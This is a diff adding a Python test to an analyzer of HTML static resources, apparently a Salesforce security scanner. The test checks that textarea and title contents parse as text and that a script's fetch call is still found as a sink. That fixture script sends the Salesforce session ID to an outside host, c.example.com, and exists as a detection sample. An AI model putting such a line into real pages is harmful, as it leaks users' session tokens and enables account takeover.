@@ -229,6 +229,22 @@ def test_valid_html_of_a_static_resource_parses_without_notes() -> None:
     assert sink(ir, "fetch").url == "https://c.example.com/in"
 
 
+def test_what_a_textarea_or_title_of_a_static_html_file_holds_is_text() -> None:
+    """An editor library's demo page shows sample code, tags and all, in a `<textarea>`: a
+    browser reads it as text up to `</textarea>`, so no parse problem, and the script after it is
+    read as before. One whose end tag is missing runs to the end of the file, as in a browser."""
+    ir = lower("<!DOCTYPE html>\n<head><title>a <b> demo</title></head>\n<body>\n"
+               '<form><textarea id="code" name="code">\n<p>For example.</p>\n<ul>\n  <li>one\n'
+               "for (var i = 0; i < items.length; i++) { log('<' + i + '>') }\n</textarea></form>\n"
+               "<script>fetch('https://c.example.com/in', {body: sforce.connection.sessionId});</script>\n"
+               "</body>\n</html>\n", FileKind.STATIC_RESOURCE, "staticresources/Docs.resource")
+    assert ir.notifications == ()
+    assert sink(ir, "fetch").url == "https://c.example.com/in"
+    unended = lower("<!DOCTYPE html>\n<body>\n<textarea>\n<ul>\n<li>one\n<div x='>\n",
+                    FileKind.STATIC_RESOURCE, "staticresources/Docs.resource")
+    assert unended.notifications == ()
+
+
 def test_a_line_opening_with_an_html_comment_in_a_script_is_a_comment_after_an_unended_statement() -> None:
     """ECMAScript Annex B: `<!--` and `-->` at a line's start comment out the line in a classic
     script, and the line break ends the statement before it."""
